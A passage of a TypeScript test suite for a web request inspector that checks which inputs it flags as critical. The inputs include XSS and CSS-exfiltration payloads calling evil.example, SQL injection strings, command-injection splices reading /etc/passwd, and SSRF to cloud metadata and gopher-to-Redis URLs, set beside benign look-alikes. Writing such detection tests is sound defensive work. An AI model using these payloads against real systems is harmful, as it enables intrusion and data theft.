      '<meta name="x>" http-equiv="refresh" content="0;url=https://evil.example/">',
      '<meta charset          =iso-2022-jp>',
      '<link rel=stylesheet data-href="https://fonts.googleapis.com/" href="https://evil.example/x.css">',
      '<link rel=stylesheet href=https://evil.example/x.css href=https://fonts.googleapis.com/css>',
      '<style>@font-face{src:url(//evil.example/?A);unicode-range:U+0041}</style>',
      '<style>a{width:expr/**/ession(print())}</style>',
      // Session 13's email renames, in their dangerous forms: a selector that loads, a stray bracket, entities in an
      // SVG style, data: URLs, a protocol-relative stylesheet, a UTF-7 Content-Type.
      '<div id="x">x</div><style>#x{font-family:foo[bar;color:green;} #y];color:red;{}</style>',
      '<svg><style>&#64;import "https://evil.example/x.css";</style></svg>',
      '<svg><style>input[value^=a]{background:&#117;rl(https://evil.example/a)}</style></svg>',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
      '<a href="data&colon;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
      '<link rel="stylesheet" href="//evil.example/a.css">',
      '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
    ])
      assert.equal(worst(v), 'critical', v);
  });
  test('an MJML or Foundation email: layout attribute selectors, the Content-Type meta, a relative stylesheet', () => {
    const email = [
      '<!doctype html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">',
      '<link rel="stylesheet" href="../assets/css/foundation-emails.css">',
      '<!--[if !mso]><!--><link href="https://fonts.googleapis.com/css?family=Ubuntu" rel="stylesheet" type="text/css">',
      '<style type="text/css">@import url(https://fonts.googleapis.com/css?family=Ubuntu:300,400);</style><!--<![endif]-->',
      '<style>.mj-accordion-checkbox[type="checkbox"] + * .mj-accordion-title { cursor:pointer; } [owa] .col { width:100% }</style>',
      '</head><body><p>See <a href="datatype.html">the data types</a>.</p></body></html>',
    ].join('\n');
    assert.equal(worst(email), 'lower');
    // Mailgun takes it as a form field beside namespaced options (`o:tracking`), the form read pair by pair.
    const form = `from=a%40example.com&html=${encodeURIComponent(email)}&o%3Atracking=yes`;
    assert.ok(!inspector.inspect(post(form, 'application/x-www-form-urlencoded')).some((f) => f.severity === 'critical'));
  });
  test("code escaped in a post's HTML is text to libinjection's XSS check, and still SQL to its SQLi check", () => {
    assert.equal(worst('<p>Use <code>&lt;object&gt;</code> and <code>&lt;base&gt;</code> with care.</p>'), 'lower');
    // Escaped markup that only libinjection judges stays with its XSS check (an application that decodes entities).
    assert.equal(worst('<b>x</b>&lt;link rel=stylesheet href=//evil.example/x.css&gt;'), 'critical');
    // An application that decodes entities before its SQL runs this: the tag in front must not hide it.
    const sqli = inspector.inspect(json('<i>a</i>admin&#39;--')).map((f) => `${f.ruleId}:${f.severity}`);
    assert.ok(sqli.includes('sqli.libinjection:critical'), sqli.join(' '));
    // IE's XML data islands rendered escaped markup.
    assert.equal(worst('<XML ID=0><B>&lt;IMG SRC="javas<!-- -->cript:alert(1)"&gt;</B></XML>'), 'critical');
  });
  test("a user's login shell is a setting (medium); elsewhere, or run with arguments, it blocks", () => {
    const sev = (body: object) =>
      inspector.inspect(post(JSON.stringify(body), 'application/json')).filter((f) => f.severity === 'critical');
    assert.deepEqual(sev({ uid: 'jdoe', loginShell: '/bin/bash' }), []);
    assert.deepEqual(sev({ shell: '/usr/bin/zsh' }), []);
    assert.notDeepEqual(sev({ exec: '/bi[n]/bash' }), []);
    assert.notDeepEqual(sev({ shell: '/bin/bash -c id' }), []);
  });
  test('"sleep (8 hrs)" is prose, sleep(5) is SQL; jQuery is not command substitution', () => {
    assert.equal(worst('sleep (8 hrs) is important'), 'lower');
    assert.equal(worst("1' and sleep(5)#"), 'critical');
    assert.notEqual(worst('$(document).ready(function() { init(); });'), 'critical');
  });
});

describe('unset variables spliced into commands', () => {
  const critical = (v: string) =>
    inspector.inspect(get('/api/run', `q=${encodeURIComponent(v)}`)).some((f) => f.severity === 'critical');
  test('commix-style splices run the command they spell, one splice or many', () => {
    const splices = [';c${x}at /e${x}tc/pa${x}sswd', ';${x}id', ';w${x}hoami', '$(${x}id)'];
    for (const v of [...splices, ';${An}e${An}c${An}h${An}o X$(${An}i${An}d)']) assert.ok(critical(v), v);
  });
  test("a build script's environment-style prefix is not a splice", () => {
    for (const v of ['make; ${CROSS_COMPILE}gcc -o app main.c', 'export CC=gcc; ${CROSS_COMPILE}gcc --version'])
      assert.ok(!critical(v), v);
  });
});

describe('GraphQL inline arguments', () => {
  const gql = (query: string) => post(JSON.stringify({ query }), 'application/json');
  test('a payload moved from variables into an inline literal is inspected, unescaped', () => {
    for (const q of [
      '{search(q:"1 or 1=1"){id}}',
      '{search(q:"admin\\" or \\"1\\"=\\"1\\"--"){id}}',
      '{fetch(url:"gopher://127.0.0.1:6379/_config%20set%20dir%20%2Fvar%2Fwww"){body}}',
      'query { run(cmd: "| sleep 10") { ok } }',
      // A review: a leading comment, a brace unicode escape.
      '# Welcome to GraphiQL\n{search(q:"1 or 1=1"){id}}',
      '{run(cmd:"\\u{7c} sleep 10"){ok}}',
    ])
      assert.ok(inspector.inspect(gql(q)).some((f) => f.severity === 'critical'), q);
  });
  test('an ordinary operation with inline strings passes', () => {
    const q = 'query Products { products(first: 10, query: "title:shoes AND vendor:\\"O\'Neill\\"") { nodes { id title } } }';
    assert.deepEqual(inspector.inspect(gql(q)).filter((f) => f.severity === 'critical' || f.severity === 'high'), []);
  });
});

describe('route parameters: path segments', () => {
  const locations = (input: InspectionInput) => inspector.inspect(input).map((f) => `${f.ruleId}@${f.location}`);
  test('a path segment with more than plain characters is read alone, as the route parameter it is', () => {
    // Whole, `/api/v1/items/1 or 1=1/orders` is no SQL that libinjection recognises; the segment alone is.
    assert.ok(locations(get('/api/v1/items/1%20or%201%3D1/orders')).includes('sqli.libinjection@path[3]'));
    // A segment that is itself a path or a URL (an encoded slash) is read alone though plain.
    assert.ok(locations(get('/api/v1/fetch/http%3A%2F%2F2130706433%2F')).includes('ssrf.encoded-address@path[3]'));
    assert.ok(ids(get('/api/v1/files/%2Fetc%2Fpasswd')).includes('traversal.sensitive-file'));
    // An OData-looking segment whose literal closes its quote is no OData literal.
    assert.ok(locations(get("/odata/People('x'%20or%20'1'%3D'1')")).includes('sqli.tautology@path[1]'));
    // An OData literal is read as its text: a URL in one reaches a fetch as a query value does.
    assert.ok(locations(get("/api/v1/items/x('http:%2F%2F2130706433%2F')")).includes('ssrf.encoded-address@path[3]'));
    // A URL sent raw as the rest of the path (a CORS proxy), in the forms URL parsers take: one slash (nginx
    // merges `//`), none, an encoded colon.
    for (const path of [
      '/proxy/http://2130706433/',
      '/proxy/http:/2130706433/',
      '/proxy/http%3A//2130706433/',
      // A review: a line break after the URL, a tab inside the scheme, a decoy URL before the real one.
      '/proxy/gopher://2130706433:6379/_INFO%0D%0A',
      '/proxy/ht%09tp://2130706433/',
      '/proxy/http:x/../http://2130706433/',
    ])
      assert.ok(ids(get(path)).includes('ssrf.encoded-address'), path);
    // Kubernetes names a node `https:10.0.1.5:10250` in its proxy paths: a special scheme with no slash is not a URL here.
    assert.deepEqual(ids(get('/api/v1/nodes/https:10.0.1.5:10250/proxy/metrics/cadvisor')), []);
  });
  test('plain segments and ordinary route parameters add nothing', () => {
    for (const path of [
      '/api/v1/users/3f2a9c1e-0b7d-4e5f-9a8b-1c2d3e4f5a6b/orders',
      "/odata/People('russellwhyte')/Trips",
      '/wiki/O%27Brien_(film)',
      '/files/My%20Report%20(final)%20v2.pdf',
      '/repos/octo/app/compare/main...feature%2Flogin',
      // OData keys and functions (Microsoft Graph): libinjection reads `range(address='A1:D20')` alone as SQL.
      "/v1.0/me/drive/items/01BYE5RZ6Q/workbook/worksheets('Sheet1')/range(address='A1:D20')",
      '/odata/Orders(OrderID=10248,ProductID=11)',
      // A doubled quote is OData's escaped quote (a sheet named `Q1 Sales`).
      "/v1.0/me/drive/items/01ABC/workbook/worksheets/x/range(address='''Q1%20Sales''!A1:B2')",
      // A relative path in one segment (GitLab's files API) is a file name, not a path to read alone.
      '/api/v4/projects/42/repository/files/db%2Fstructure.sql/raw',
      '/web/2024/https://example.com/page',
    ])
      assert.deepEqual(ids(get(path)), [], path);
  });
  test('more parts than the limit reads are said, and padding does not push a payload out of reach', () => {
    const payload = '1%20or%201%3D1--%20';
    for (const path of [
      `/a${'/~x'.repeat(35)}/${payload}${'/~x'.repeat(35)}`,
      `/api/items/${payload}${'a'.repeat(4100)}`,
      `/${'%27'.repeat(5000)}/${payload}/${'%27'.repeat(5000)}`,
      // A review: 64 short decoys that outrank the payload by syntax, before it.
      `/api${'/%27%27'.repeat(64)}/items/1%20or%201%3D1`,
    ]) {
      const found = inspector.inspect(get(path));
      assert.ok(found.some((f) => f.ruleId === 'sqli.libinjection'), `${path.slice(0, 60)}: ${found.map((f) => f.ruleId).join(' ')}`);
    }
    const padded = inspector.inspect(get(`/a${'/%27x'.repeat(70)}`));
    assert.ok(padded.some((f) => f.ruleId === 'inspection.limit' && f.location === 'args'));
  });
});

describe('GraphQL documents as a body and in uploads', () => {
  test('an application/graphql body is read for its string arguments', () => {
    const doc = '{ search(q: "admin\' --") { id name } }';
    assert.ok(ids(post(doc, 'application/graphql')).includes('sqli.libinjection'));
    assert.deepEqual(ids(post('{ search(q: "It\'s the \\"best\\" one; really!") { id } }', 'application/graphql')), []);
  });
  test("a multipart upload's JSON fields are read as JSON, the operations' GraphQL document too", () => {
    const operations = JSON.stringify({ query: 'mutation { upload(note: "1 or 1=1") { id } }', variables: { file: null } });
    const body = [
      '--XX',
      'Content-Disposition: form-data; name="operations"',
      '',
      operations,
      '--XX',
      'Content-Disposition: form-data; name="map"',
      '',
      '{"0":["variables.file"]}',
      '--XX',
      'Content-Disposition: form-data; name="0"; filename="a.txt"',
      'Content-Type: text/plain',
      '',
      'hello',
      '--XX--',
      '',
    ].join('\r\n');
    const found = inspector.inspect(post(body, 'multipart/form-data; boundary=XX'));
    assert.ok(found.some((f) => f.severity === 'critical' && f.location === 'body.operations.argument'), JSON.stringify(found));
  });
  test("an upload's operations are read as JSON.parse reads them: an escaped key, a batch past what is read said", () => {
    const form = (operations: string) =>
      post(['--XX', 'Content-Disposition: form-data; name="operations"', '', operations, '--XX--', ''].join('\r\n'), 'multipart/form-data; boundary=XX');
    const escaped = '{"\\u0071uery":"mutation { f(url: \\"http://2130706433/\\") { id } }"}';
    assert.ok(ids(form(escaped)).includes('ssrf.encoded-address'), escaped);
    const batch = JSON.stringify(Array.from({ length: 65 }, () => ({ query: '{ a }' })));
    assert.ok(inspector.inspect(form(batch)).some((f) => f.ruleId === 'inspection.limit'));
  });
  test('a JSON field of a form is still read as its text: a repeated key cannot hide what JSON.parse drops', () => {
    const body = ['--XX', 'Content-Disposition: form-data; name="profile"', '', '{"bio":"<script>alert(document.cookie)</script>","bio":"hi"}', '--XX--', ''].join('\r\n');
    assert.ok(ids(post(body, 'multipart/form-data; boundary=XX')).includes('xss.script-tag'));
  });
});

describe('the Origin header', () => {
  test('a serialised origin holds nothing to inspect, whatever host it names', () => {
    for (const origin of ['capacitor://localhost', 'http://localhost:3000', 'http://10.0.2.2:3000', 'http://[::1]:8080', 'null'])
      assert.deepEqual(ids(get('/api/items', '', { origin })), [], origin);
  });
  test('anything else in it is inspected', () => {
    assert.ok(ids(get('/api/items', '', { origin: 'http://x/"><script>alert(1)</script>' })).includes('xss.script-tag'));
    assert.ok(ids(get('/api/items', '', { origin: 'http://169.254.169.254/latest/meta-data/' })).includes('ssrf.cloud-metadata'));
    // A serialised origin naming a metadata service, an encoded address or a raw-protocol scheme is inspected too.
    for (const [origin, rule] of [
      ['http://169.254.169.254', 'ssrf.cloud-metadata'],
      ['http://metadata.google.internal', 'ssrf.cloud-metadata'],
      ['http://0x7f000001', 'ssrf.encoded-address'],
      ['gopher://127.0.0.1:6379', 'ssrf.dangerous-scheme'],
    ] as const)
      assert.ok(ids(get('/api/items', '', { origin })).includes(rule), origin);
  });
});

describe('the time budget', () => {
  test('a large request is read shortest value first, so one costly field cannot hide a payload after it', () => {
    const tight = createInspector(cfg({ limits: { timeBudgetMicros: 100 } }), { ruleset });
    try {
      const body: Record<string, string> = { notes: `${'@{ '.repeat(10_000)}` };
      for (let i = 0; i < 6; i++) body[`f${i}`] = `ordinary text for field ${i} `.repeat(4);
      body.host = '127.0.0.1; cat /etc/passwd';
      const found = tight.inspect(post(JSON.stringify(body), 'application/json')).map((f) => f.ruleId);
      assert.ok(found.includes('inspection.limit'), 'the budget ran out');
      assert.ok(found.includes('cmdi.separator-command'), found.join(' '));
    } finally {
      tight.close();
    }
  });
});

describe('past the time budget', () => {
  test('the values left are still read by their ends, so a payload padded to sort last is found', () => {
    const tight = createInspector(cfg({ limits: { timeBudgetMicros: 100 } }), { ruleset });
    try {
      const body: Record<string, string> = {};
      for (let i = 0; i < 24; i++) body[`f${i}`] = `lorem ipsum dolor sit amet ${i} `.repeat(30);
      body.host = `127.0.0.1;cat /etc/passwd;${' '.repeat(4100)}`;
      const found = tight.inspect(post(JSON.stringify(body), 'application/json'));
      const limit = found.find((f) => f.ruleId === 'inspection.limit');
      assert.ok(limit !== undefined && /first and last 512 characters/.test(limit.explanation), limit?.explanation);
      assert.ok(found.some((f) => f.ruleId === 'cmdi.separator-command'), found.map((f) => f.ruleId).join(' '));
    } finally {
      tight.close();
    }
  });
});
